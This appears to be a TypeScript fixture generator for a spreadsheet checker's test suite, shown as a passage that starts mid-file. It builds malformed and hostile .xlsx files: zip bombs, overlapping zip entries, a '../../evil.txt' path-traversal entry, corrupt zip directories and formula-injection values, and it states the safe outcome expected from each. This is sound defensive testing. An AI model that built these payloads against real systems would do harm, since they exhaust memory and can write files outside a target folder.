    settings: { ...SAVED_STATE.settings },
    overrides: [...SAVED_STATE.overrides],
  });
  return toBytes(wb);
}

async function formatsAndFormulas(): Promise<Uint8Array> {
  const wb = newWorkbook();
  const ws = addRoster(wb, "工作人员名单", 6);
  ws.getColumn(2).numFmt = "@";
  ws.getCell("L1").value = "排名百分比";
  for (let r = 2; r <= 7; r++) {
    ws.getCell(r, 12).value = { formula: `LEFT(J${r},FIND("/",J${r})-1)/120`, result: (r - 1) / 120 };
    ws.getCell(r, 12).numFmt = "0.00%";
  }
  ws.getCell("M1").value = "入学日期";
  ws.getCell("M2").value = new Date(Date.UTC(2021, 8, 1));
  ws.getCell("M2").numFmt = "yyyy年m月d日";
  ws.getCell("N1").value = "金额";
  ws.getCell("N2").value = 1234.5;
  ws.getCell("N2").numFmt = '#,##0.00"元"';
  ws.getCell("A9").value = "合计";
  ws.mergeCells("A9:I9");
  ws.getCell("J9").value = { formula: "COUNTA(A2:A7)", result: 6 };
  ws.getCell("A9").font = { bold: true };
  ws.getColumn(1).width = 14;
  ws.views = [{ state: "frozen", ySplit: 1 }];
  const acts = wb.addWorksheet("志愿活动记录");
  acts.addRow(ACTIVITY_HEADERS);
  for (let i = 0; i < 5; i++)
    acts.addRow([
      new Date(Date.UTC(2022, 2, 8 + i)),
      "绿色校园 有我守护",
      "志愿服务",
      `20210${1000 + i}`,
      "",
      2 + i / 2,
      "组织宣传部",
    ]);
  acts.getColumn(1).numFmt = "yyyy-mm-dd";
  acts.getCell("F7").value = { formula: "SUM(F2:F6)", result: 15 };
  acts.getCell("A7").value = "合计";
  acts.mergeCells("A7:E7");
  return toBytes(wb);
}

// ---------------------------------------------------------------------------------------------
// Raw-byte fixtures
// ---------------------------------------------------------------------------------------------

async function xlsRenamed(): Promise<Uint8Array> {
  return buildCompoundFile([
    { name: "Workbook", data: biff8WorkbookStream() },
    { name: "\u0005SummaryInformation", data: new Uint8Array(200) },
  ]);
}

async function encryptedXlsx(): Promise<Uint8Array> {
  const rnd = seededRandom(6);
  const packageSize = 9000;
  const encrypted = new Uint8Array(8 + Math.ceil(packageSize / 16) * 16);
  encrypted.set(le32(packageSize), 0);
  for (let i = 8; i < encrypted.length; i++) encrypted[i] = Math.floor(rnd() * 256);
  return buildCompoundFile([
    { name: "EncryptionInfo", data: agileEncryptionInfo() },
    { name: "EncryptedPackage", data: encrypted },
  ]);
}

async function csvRenamed(): Promise<Uint8Array> {
  const lines = [ROSTER_HEADERS.join(","), ...[0, 1, 2].map((i) => rosterRow(i).join(","))];
  return concat([new Uint8Array([0xef, 0xbb, 0xbf]), new TextEncoder().encode(lines.join("\r\n") + "\r\n")]);
}

async function randomBinary(): Promise<Uint8Array> {
  const rnd = seededRandom(20220308);
  const out = new Uint8Array(64 * 1024);
  for (let i = 0; i < out.length; i++) out[i] = Math.floor(rnd() * 256);
  out[0] = 0x7f; // never a zip or OLE2 signature by accident
  return out;
}

async function truncated(): Promise<Uint8Array> {
  const wb = newWorkbook();
  addRoster(wb, "工作人员名单", 40);
  const full = await toBytes(wb);
  return full.slice(0, Math.floor(full.length * 0.6));
}

/** Uncompressed size of the bomb's shared-strings part (the committed file stays ~260 KB). */
export const BOMB_PART_BYTES = 256 * 1024 * 1024;

let bombEntry: RawZipEntry | undefined;

/** Deflate a long run of one character inside a shared-strings part, streaming, in bounded memory (built once). */
function deflatedSharedStringsBomb(): RawZipEntry {
  bombEntry ??= buildSharedStringsBomb();
  return bombEntry;
}

function buildSharedStringsBomb(): RawZipEntry {
  const head = new TextEncoder().encode(
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>',
  );
  const tail = new TextEncoder().encode("</t></si></sst>");
  const chunk = new Uint8Array(1024 * 1024).fill(0x41);
  const body = BOMB_PART_BYTES - head.length - tail.length;
  const parts: Uint8Array[] = [];
  // Level 1 gives the same ~1000:1 on a run of one byte, several times faster than level 9.
  const deflate = new Deflate({ level: 1 }, (data) => parts.push(data));
  let crc = crc32(head);
  deflate.push(head);
  for (let left = body; left > 0; left -= chunk.length) {
    const piece = left >= chunk.length ? chunk : chunk.subarray(0, left);
    crc = crc32(piece, crc);
    deflate.push(piece);
  }
  crc = crc32(tail, crc);
  deflate.push(tail, true);
  return { name: "xl/sharedStrings.xml", method: 8, compressed: concat(parts), crc, size: BOMB_PART_BYTES };
}

async function bombBase(): Promise<Record<string, Uint8Array>> {
  const wb = newWorkbook();
  const ws = wb.addWorksheet("工作人员名单");
  ws.addRow(["姓名", "学号"]);
  ws.addRow(["王晓明", "202101000"]);
  return unzipSync(new Uint8Array((await wb.xlsx.writeBuffer()) as ArrayBuffer));
}

async function bomb(): Promise<Uint8Array> {
  const files = await bombBase();
  const entries = Object.entries(files)
    .filter(([name]) => name !== "xl/sharedStrings.xml")
    .map(([name, data]) => zipEntry(name, data));
  return writeZip([...entries, deflatedSharedStringsBomb()]);
}

async function bombLyingSizes(): Promise<Uint8Array> {
  // The directory declares 1 KiB for a part that really inflates to 256 MiB: the sniff cannot see
  // it, so the zip readers themselves must stop (fflate) or fail (JSZip) without inflating it all.
  const files = await bombBase();
  const entries = Object.entries(files)
    .filter(([name]) => name !== "xl/sharedStrings.xml")
    .map(([name, data]) => zipEntry(name, data));
  return writeZip([...entries, { ...deflatedSharedStringsBomb(), size: 1024 }]);
}

async function bombOverlap(): Promise<Uint8Array> {
  // Small kernel, referenced by many central-directory entries: declared sizes add up to ~2 GiB
  // while no single part is suspicious alone (the "overlapping files" construction).
  const files = await bombBase();
  const kernelData = new Uint8Array(64 * 1024 * 1024 - 1).fill(0x20);
  const kernel = { ...zipEntry("xl/media/kernel.bin", kernelData), name: "xl/media/kernel.bin" };
  const entries = Object.entries(files).map(([name, data]) => zipEntry(name, data));
  const copies = Array.from({ length: 32 }, (_, i): RawZipEntry => ({
    ...kernel,
    name: `xl/media/image${i + 1}.bin`,
    shareDataOf: "xl/media/kernel.bin",
  }));
  return writeZip([...entries, kernel, ...copies]);
}

// ---------------------------------------------------------------------------------------------
// The corpus
// ---------------------------------------------------------------------------------------------

/** Every fixture of the corpus, in README order. */
export const BAD_FIXTURES: readonly BadFixture[] = [
  {
    file: "empty-workbook.xlsx",
    proves: "a valid workbook with one blank sheet → table.missing findings, no crash",
    build: emptyWorkbook,
  },
  {
    file: "header-only.xlsx",
    proves: "every table present with its header but no data rows → zero figures, no division by zero",
    build: headersOnly,
  },
  {
    file: "header-row-10.xlsx",
    proves: "a merged title and a block of notes above the header → roster found with headerRow 10",
    build: headerOnRow10,
  },
  {
    file: "two-row-headers.xlsx",
    proves: "two-row header (vertical merges + a group caption) → roster still recognised, no crash",
    build: twoRowHeaders,
  },
  {
    file: "duplicate-headers.xlsx",
    proves: "姓名/学号/备注 appear twice → the first match wins, no crash",
    build: duplicateHeaders,
  },
  {
    file: "odd-column-order.xlsx",
    proves: "columns shuffled with an extra column first → same figures as normal order",
    build: oddColumnOrder,
  },
  {
    file: "numbers-as-text.xlsx",
    proves: "ids, years, ranks, hours and enrolment stored as (full-width) text are read as numbers",
    build: numbersAsText,
  },
  {
    file: "formula-errors.xlsx",
    proves: "formula cells with cached #N/A, #DIV/0!, #REF! … → invalid values, never a crash",
    build: formulaErrors,
  },
  { file: "booleans.xlsx", proves: "TRUE/FALSE cells in text, yes/no and number columns", build: booleans },
  {
    file: "rich-text.xlsx",
    proves: "rich-text cells (a header too) are read as their plain text",
    build: richText,
  },
  {
    file: "hyperlinks.xlsx",
    proves: "hyperlink cells (https, mailto, file:, internal) are read as their text; links are not copied",
    build: hyperlinks,
  },
  {
    file: "long-strings.xlsx",
    proves: "32,767-character cells (Excel's maximum) are handled and written back",
    build: longStrings,
  },
  { file: "emoji.xlsx", proves: "emoji, ZWJ sequences and flags in cells and in a sheet name", build: emoji },
  {
    file: "hidden-rows-columns.xlsx",
    proves: "hidden rows, hidden columns, a hidden and a very-hidden sheet are still read (and kept)",
    build: hiddenRowsColumns,
  },
  {
    file: "stray-last-row.xlsx",
    proves: "one stray value at A1048576 → bounded time and memory, finding on row 1048576",
    build: () => strayLastRow(1),
  },
  {
    file: "stray-last-cell.xlsx",
    proves: "one stray value at XFD1048576 → no 1M × 16K grid is allocated",
    build: () => strayLastRow(16384),
  },
  {
    file: "dates-as-text.xlsx",
    proves:
      "dates as text in every format (ISO, slashes, dots, 年月日, full-width) plus nonsense → only nonsense is activity.date",
    build: datesAsText,
  },
  {
    file: "extreme-numbers.xlsx",
    proves:
      "negative, zero, 1e308, 1e15 and unsafe-integer hours, ranks and enrolment → findings, no NaN/Infinity in figures",
    build: extremeNumbers,
  },
  {
    file: "many-sheets.xlsx",
    proves: "a workbook with 200 sheets → roster found, bounded time",
    build: twoHundredSheets,
  },
  {
    file: "odd-sheet-names.xlsx",
    proves: "sheet names with < > \" | ' & # % (legal in Excel) → read, and links to them quoted correctly",
    build: oddSheetNames,
  },
  {
    file: "injection.xlsx",
    proves:
      "values starting with = + - @ tab CR in every copied column and in sheet names → written as text; terminal escape sequences in cells → not passed to the console",
    build: injection,
  },
  {
    file: "saved-settings.xlsx",
    proves: "a 基本信息 settings sheet and a very-hidden _ziping_state sheet → both survive --out",
    build: savedSettings,
  },
  {
    file: "formats-formulas.xlsx",
    proves: "formulas, merged cells, number formats, widths, frozen panes → copied unchanged by --out",
    build: formatsAndFormulas,
  },
  {
    file: "xls-renamed.xlsx",
    proves: "an OLE2 (Excel 97-2003 .xls) file named .xlsx → code xls",
    build: xlsRenamed,
  },
  { file: "csv-renamed.xlsx", proves: "a UTF-8 CSV named .xlsx → code csv", build: csvRenamed },
  {
    file: "random-binary.xlsx",
    proves: "64 KiB of seeded random bytes → code not-xlsx",
    build: randomBinary,
  },
  { file: "zero-bytes.xlsx", proves: "a zero-byte file → code empty", build: async () => new Uint8Array(0) },
  {
    file: "truncated.xlsx",
    proves: "a valid .xlsx cut at 60% (no central directory) → code truncated",
    build: truncated,
  },
  {
    file: "encrypted.xlsx",
    proves: "a password-protected .xlsx (CFB with EncryptionInfo + EncryptedPackage) → code encrypted",
    build: encryptedXlsx,
  },
  {
    file: "bomb.xlsx",
    proves:
      "a ~260 KB .xlsx whose sharedStrings part declares 256 MiB (ratio ~1000:1) → code bomb, nothing inflated",
    build: bomb,
  },
  {
    file: "bomb-lying-sizes.xlsx",
    proves:
      "a bomb whose zip directory declares 1 KiB for a 256 MiB part → sniff passes, the reader fails cleanly (exit 2), memory bounded",
    build: bombLyingSizes,
  },
  {
    file: "bomb-overlap.xlsx",
    proves: "32 zip entries sharing one compressed kernel (declared total ~2 GiB) → code bomb",
    build: bombOverlap,
  },
];

/** The project root: the nearest folder above this file with a package.json (works from dist/ too). */
function projectRoot(): string {
  let dir = __dirname;
  while (!existsSync(join(dir, "package.json")) && dirname(dir) !== dir) dir = dirname(dir);
  return dir;
}

/** Where the corpus lives. */
export const BAD_FIXTURES_DIR = join(projectRoot(), "test", "fixtures", "bad");

/** Build every fixture into `dir` (default test/fixtures/bad), removing stale .xlsx files first. */
export async function writeBadFixtures(dir = BAD_FIXTURES_DIR): Promise<void> {
  mkdirSync(dir, { recursive: true });
  for (const f of readdirSync(dir)) if (f.endsWith(".xlsx")) rmSync(join(dir, f));
  for (const fixture of BAD_FIXTURES) {
    writeFileSync(join(dir, fixture.file), await fixture.build());
  }
  writeFileSync(join(dir, "README.md"), readme());
}

function readme(): string {
  const rows = BAD_FIXTURES.map((f) => `| \`${f.file}\` | ${f.proves.replace(/\|/g, "\\|")} |`);
  return [
    "# Bad-input corpus",
    "",
    "Generated by `scripts/make-bad-fixtures.ts` (`npm run fixtures:bad`) — do not edit by hand; the",
    "generator is deterministic, so re-running it reproduces these bytes. `test/bad-input/corpus.test.ts`",
    "runs the CLI and the engine on every file and asserts the outcome listed here;",
    "`test/safety/*.test.ts` use the ones that open. Every file is named `.xlsx`, as users send them.",
    "",
    "| file | what it proves |",
    "|---|---|",
    ...rows,
    "",
  ].join("\n");
}

// ---------------------------------------------------------------------------------------------
// Hostile packages (issue 13), built part by part at the zip and XML level. They are generated
// in memory by test/bad-input/hostile.test.ts rather than committed: some are only a few KB, but
// the point of each is what it makes a reader do, which a test proves under a memory cap.
// ---------------------------------------------------------------------------------------------

/** What the CLI must do with a hostile fixture. */
export type HostileOutcome =
  /** Exit 2 with the one-line message of this workbook error code. */
  | { readonly refused: "truncated" | "corrupt" | "bomb" | "too-many-cells" }
  /** Exit 0 or 1 with a report; `--out` writes a workbook that re-checks the same. */
  | { readonly opens: true };

/** One hostile fixture: a name, what it proves, its outcome and its bytes. */
export interface HostileFixture {
  readonly file: string;
  readonly proves: string;
  readonly outcome: HostileOutcome;
  readonly build: () => Uint8Array;
}

const NS_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const NS_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const NS_PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships";
const XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const CT_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml";
const CT_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
const CT_MACRO_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml";

function xmlEscape(text: string): string {
  return text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");
}

/** One `<row>` of inline-string and number cells from column A. */
function rowXml(r: number, cells: ReadonlyArray<string | number>): string {
  const cs = cells.map((v, c) => {
    const ref = `${columnLetter(c)}${r}`;
    return typeof v === "number"
      ? `<c r="${ref}"><v>${v}</v></c>`
      : `<c r="${ref}" t="inlineStr"><is><t>${xmlEscape(v)}</t></is></c>`;
  });
  return `<row r="${r}">${cs.join("")}</row>`;
}

/** A worksheet part from its rows' XML (and what follows sheetData, e.g. mergeCells). */
function worksheetXml(rows: string, after = ""): string {
  return `${XML_HEAD}<worksheet xmlns="${NS_MAIN}" xmlns:r="${NS_REL}"><sheetData>${rows}</sheetData>${after}</worksheet>`;
}

/** The roster of the ExcelJS fixtures (eight clean rows) as worksheet XML. */
function rosterXml(): string {
  const rows = [rowXml(1, ROSTER_HEADERS)];
  for (let i = 0; i < 8; i++) rows.push(rowXml(i + 2, rosterRow(i)));
  return worksheetXml(rows.join(""));
}

/** An activity log: `hours(i)` gives each row's hours cell XML (`<v>` content) or a number. */
function activityXml(count: number, hours: (i: number) => string = () => "2"): string {
  const rows = [rowXml(1, ACTIVITY_HEADERS)];
  for (let i = 0; i < count; i++) {
    const r = i + 2;
    const cells = rowXml(r, ["2022-03-08", "绿色校园", "志愿服务", `20210${1000 + (i % 8)}`, "王晓明"]);
    rows.push(`${cells.slice(0, -"</row>".length)}<c r="F${r}"><v>${hours(i)}</v></c></row>`);
  }
  return worksheetXml(rows.join(""));
}

interface HostileSheet {
  readonly name: string;
  readonly xml: string;
  /** sheetId as written (default: its position). */
  readonly sheetId?: string;
  /** Point this sheet at the part of sheet n (1-based) instead of its own. */
  readonly partOf?: number;
}

/** Parts of a package: name → text or bytes, in zip order. */
type Parts = Array<[string, string | Uint8Array]>;

/** A package with the given sheets: content types, relationships, workbook, sheets. */
function hostileParts(
  sheets: readonly HostileSheet[],
  options: {
    mainType?: string;
    extraRels?: string;
    extraParts?: Parts;
    missing?: readonly number[];
    date1904?: boolean;
  } = {},
): Parts {
  const overrides: string[] = [];
  const rels: string[] = [];
  const tags: string[] = [];
  const parts: Parts = [];
  sheets.forEach((s, i) => {
    const n = i + 1;
    const target = s.partOf ?? n;
    rels.push(
      `<Relationship Id="rId${n}" Type="${NS_REL}/worksheet" Target="worksheets/sheet${target}.xml"/>`,
    );
    tags.push(`<sheet name="${xmlEscape(s.name)}" sheetId="${s.sheetId ?? n}" r:id="rId${n}"/>`);
    if (s.partOf === undefined && !options.missing?.includes(n)) {
      overrides.push(`<Override PartName="/xl/worksheets/sheet${n}.xml" ContentType="${CT_SHEET}"/>`);
      parts.push([`xl/worksheets/sheet${n}.xml`, s.xml]);
    }
  });
  return [
    [
      "[Content_Types].xml",
      `${XML_HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
        `<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
        `<Default Extension="xml" ContentType="application/xml"/>` +
        `<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>` +
        `<Override PartName="/xl/workbook.xml" ContentType="${options.mainType ?? CT_MAIN}"/>${overrides.join("")}</Types>`,
    ],
    [
      "_rels/.rels",
      `${XML_HEAD}<Relationships xmlns="${NS_PKG_REL}"><Relationship Id="rId1" Type="${NS_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    ],
    [
      "xl/workbook.xml",
      `${XML_HEAD}<workbook xmlns="${NS_MAIN}" xmlns:r="${NS_REL}"><workbookPr${options.date1904 ? ' date1904="1"' : ""}/><sheets>${tags.join("")}</sheets></workbook>`,
    ],
    [
      "xl/_rels/workbook.xml.rels",
      `${XML_HEAD}<Relationships xmlns="${NS_PKG_REL}">${rels.join("")}${options.extraRels ?? ""}</Relationships>`,
    ],
    ...parts,
    ...(options.extraParts ?? []),
  ];
}

const encoder = new TextEncoder();

/** Zip parts in order (duplicates kept: the zip writer writes what it is given). */
function zipParts(parts: Parts): Uint8Array {
  return writeZip(
    parts.map(([name, data]) => zipEntry(name, typeof data === "string" ? encoder.encode(data) : data)),
  );
}

/** The two sheets every opening fixture has: a clean roster and a short activity log. */
const BASE_SHEETS: readonly HostileSheet[] = [
  { name: "工作人员名单", xml: rosterXml() },
  { name: "志愿活动记录", xml: activityXml(4) },
];

function wideSparseRows(): Uint8Array {
  // 40,000 rows holding one value each, in column XFD: 16,384 slots a row if rows were dense.
  const rows: string[] = [];
  for (let r = 1; r <= 40_000; r++) rows.push(`<row r="${r}"><c r="XFD${r}"><v>${r}</v></c></row>`);
  return zipParts(hostileParts([...BASE_SHEETS, { name: "备注", xml: worksheetXml(rows.join("")) }]));
}

function manyMerges(): Uint8Array {
  // 40,000 rows of three values under 60,000 merges that each span the whole sheet.
  const rows: string[] = [];
  for (let r = 1; r <= 40_000; r++)
    rows.push(
      `<row r="${r}"><c r="A${r}"><v>1</v></c><c r="B${r}"><v>2</v></c><c r="C${r}"><v>3</v></c></row>`,
    );
  const merges = `<mergeCells count="60000">${'<mergeCell ref="A1:XFD1048576"/>'.repeat(60_000)}</mergeCells>`;
  return zipParts(hostileParts([...BASE_SHEETS, { name: "备注", xml: worksheetXml(rows.join(""), merges) }]));
}

function aliasedSheets(): Uint8Array {
  const log = activityXml(2_000);
  const aliases = Array.from({ length: 2_000 }, (_, i): HostileSheet => ({
    name: `记录${i + 2}`,
    xml: "",
    partOf: 2,
  }));
  return zipParts(
    hostileParts([BASE_SHEETS[0] as HostileSheet, { name: "志愿活动记录", xml: log }, ...aliases]),
  );
}

/** The end of central directory record of `zip` (the last 22 bytes: fixtures carry no comment). */
function splitEnd(zip: Uint8Array): { body: Uint8Array; end: Uint8Array } {
  return { body: zip.subarray(0, zip.length - 22), end: zip.slice(zip.length - 22) };
}

function twoEndRecords(): Uint8Array {
  // The real end record gets a 22-byte comment holding a second end record that also ends the file.
  const { body, end } = splitEnd(zipParts(hostileParts(BASE_SHEETS)));
  const fake = end.slice();
  fake.set(le32(0), 16); // its directory "starts" at offset 0
  end.set(le16(22), 20);
  return concat([body, end, fake]);
}

function zip64Disagrees(): Uint8Array {
  // A ZIP64 record and locator before the end record, naming another directory offset and count.
  const { body, end } = splitEnd(zipParts(hostileParts(BASE_SHEETS)));
  const count = end[10] ?? 0;
  const cdSize = (end[12] ?? 0) | ((end[13] ?? 0) << 8) | ((end[14] ?? 0) << 16) | ((end[15] ?? 0) << 24);
  const cdOffset = (end[16] ?? 0) | ((end[17] ?? 0) << 8) | ((end[18] ?? 0) << 16) | ((end[19] ?? 0) << 24);
  const le64 = (n: number): number[] => [...le32(n), ...le32(0)];
  const recordAt = body.length;
  const record = new Uint8Array([
    ...le32(0x06064b50),
    ...le64(44),
    ...le16(45),
    ...le16(45),
    ...le32(0),
    ...le32(0),
    ...le64(count - 1),
    ...le64(count - 1),
    ...le64(cdSize),
    ...le64(cdOffset + 46),
  ]);
  const locator = new Uint8Array([...le32(0x07064b50), ...le32(0), ...le64(recordAt), ...le32(1)]);
  return concat([body, record, locator, end]);
}

function duplicateEntry(): Uint8Array {
  // The same part twice: one reader keeps the first, another the last.
  const parts = hostileParts(BASE_SHEETS);
  return zipParts([...parts, ["xl/worksheets/sheet2.xml", activityXml(4, () => "-5")]]);
}

function caseCollidingEntries(): Uint8Array {
  const parts = hostileParts(BASE_SHEETS);
  return zipParts([...parts, ["XL/Worksheets/Sheet2.xml", activityXml(4, () => "-5")]]);
}

function traversalEntry(): Uint8Array {
  return zipParts(hostileParts(BASE_SHEETS, { extraParts: [["../../evil.txt", "written outside"]] }));
}

function badPercentTarget(): Uint8Array {
  // A relationship whose target is not valid percent-encoding (decodeURI throws on it).
  const rel = `<Relationship Id="rIdX" Type="${NS_REL}/customXml" Target="../customXml/item%zz.xml"/>`;
  return zipParts(hostileParts(BASE_SHEETS, { extraRels: rel }));
}

function listedMissingSheet(): Uint8Array {
  return zipParts(hostileParts([...BASE_SHEETS, { name: "会议记录", xml: "" }], { missing: [3] }));
}

function duplicateSheetNames(): Uint8Array {
  return zipParts(hostileParts([...BASE_SHEETS, { name: "工作人员名单", xml: rosterXml() }]));
}

/** The activity rows whose hours are text that starts like a number (row 3 and row 5). */
export const HOURS_NOT_NUMBERS: Readonly<Record<number, string>> = { 3: " 12abc", 5: "0x1A" };

function numbersWithLetters(): Uint8Array {
  const log = activityXml(4, (i) => HOURS_NOT_NUMBERS[i + 2] ?? "2");
  return zipParts(hostileParts([BASE_SHEETS[0] as HostileSheet, { name: "志愿活动记录", xml: log }]));
}

function lowerCaseContentTypes(): Uint8Array {
  return zipParts(
    hostileParts(BASE_SHEETS).map(([n, d]) => [n === "[Content_Types].xml" ? "[content_types].xml" : n, d]),
  );
}

function macroEnabled(): Uint8Array {
  const rel = `<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`;
  return zipParts(
    hostileParts(BASE_SHEETS, {
      mainType: CT_MACRO_MAIN,
      extraRels: rel,
      extraParts: [["xl/vbaProject.bin", new Uint8Array(64).fill(7)]],
    }),
  );
}

function sheetIdOverflow(): Uint8Array {
  return zipParts(
    hostileParts([
      { ...(BASE_SHEETS[0] as HostileSheet), sheetId: "4294967295" },
      { ...(BASE_SHEETS[1] as HostileSheet), sheetId: "abc" },
    ]),
  );
}

/** Rows of the activity log with unreadable hours in `many-findings.xlsx`. */
export const MANY_FINDINGS_ROWS = 30_000;

function manyFindings(): Uint8Array {
  const log = activityXml(MANY_FINDINGS_ROWS, () => "-1");
  return zipParts(hostileParts([BASE_SHEETS[0] as HostileSheet, { name: "志愿活动记录", xml: log }]));
}

/** 2022-03-08 as a 1904-system serial (44628 in the 1900 system, minus the 1,462 days between). */
export const SERIAL_1904 = 43166;

function dates1904(): Uint8Array {
  // Unformatted serials in the date column of a 1904 workbook: read in 1900 they fall in 2018.
  const log = activityXml(4).replace(
    /<c r="A(\d+)" t="inlineStr"><is><t>2022-03-08<\/t><\/is><\/c>/g,
    (_, r: string) => `<c r="A${r}"><v>${SERIAL_1904}</v></c>`,
  );
  return zipParts(
    hostileParts([BASE_SHEETS[0] as HostileSheet, { name: "志愿活动记录", xml: log }], { date1904: true }),
  );
}

/** The hostile corpus: each class of issue 13 that a reader or writer must survive. */
export const HOSTILE_FIXTURES: readonly HostileFixture[] = [
  {
    file: "wide-sparse-rows.xlsx",
    proves: "40,000 rows with one value in column XFD cost their cells, not 16,384 slots each",
    outcome: { opens: true },
    build: wideSparseRows,
  },
  {
    file: "many-merges.xlsx",
    proves: "60,000 merges over 40,000 rows are cleared in one sweep",
    outcome: { opens: true },
    build: manyMerges,
  },
  {
    file: "aliased-sheets.xlsx",
    proves: "2,000 sheets on one part are refused as damaged, not read 2,000 times",
    outcome: { refused: "corrupt" },
    build: aliasedSheets,
  },
  {
    file: "two-end-records.xlsx",
    proves: "a second end record hidden in the zip comment is refused, not guessed",
    outcome: { refused: "truncated" },
    build: twoEndRecords,
  },
  {
    file: "zip64-disagrees.xlsx",
    proves: "a ZIP64 locator that disagrees with the end record is refused",
    outcome: { refused: "truncated" },
    build: zip64Disagrees,
  },
  {
    file: "duplicate-entry.xlsx",
    proves: "two zip entries with one name are refused (readers keep different ones)",
    outcome: { refused: "truncated" },
    build: duplicateEntry,
  },
  {
    file: "case-colliding-entries.xlsx",
    proves: "entry names that differ only in case are refused",
    outcome: { refused: "truncated" },
    build: caseCollidingEntries,
  },
  {
    file: "traversal-entry.xlsx",
    proves: "an entry named ../../evil.txt is refused, never re-emitted by --out",
    outcome: { refused: "truncated" },
    build: traversalEntry,
  },
  {
    file: "bad-percent-target.xlsx",
    proves: "a relationship target with bad percent-encoding is no internal error on --out",
    outcome: { opens: true },
    build: badPercentTarget,
  },
  {
    file: "listed-missing-sheet.xlsx",
    proves: "a sheet the workbook lists but the package lacks is a damaged file",
    outcome: { refused: "corrupt" },
    build: listedMissingSheet,
  },
  {
    file: "duplicate-sheet-names.xlsx",
    proves: "two sheets with one name are a damaged file, not nonsense findings",
    outcome: { refused: "corrupt" },
    build: duplicateSheetNames,
  },
  {
    file: "numbers-with-letters.xlsx",
    proves: "<v> 12abc</v> and <v>0x1A</v> are not numbers: the hours are reported, not read as 12 and 26",
    outcome: { opens: true },
    build: numbersWithLetters,
  },
  {
    file: "lowercase-content-types.xlsx",
    proves: "a lower-case [content_types].xml is read and written alike",
    outcome: { opens: true },
    build: lowerCaseContentTypes,
  },
  {
    file: "macro-enabled.xlsx",
    proves: "--out of a macro-enabled package writes an .xlsx Excel opens (no macro content type)",
    outcome: { opens: true },
    build: macroEnabled,
  },
  {
    file: "sheetid-overflow.xlsx",
    proves: 'sheetIds of 2^32-1 and "abc" give valid new sheetIds on --out',
    outcome: { opens: true },
    build: sheetIdOverflow,
  },
  {
    file: "dates-1904.xlsx",
    proves: "unformatted date serials of a 1904 workbook are read as 1904 serials, not four years early",
    outcome: { opens: true },
    build: dates1904,
  },
  {
    file: "many-findings.xlsx",
    proves: "30,000 findings: the JSON keeps all, the sheets list the first ones and say how many more",
    outcome: { opens: true },
    build: manyFindings,
  },
];

if (require.main === module) {
  writeBadFixtures().catch((err: unknown) => {
    process.stderr.write(`make-bad-fixtures: ${String(err)}\n`);
    process.exit(1);
  });
}
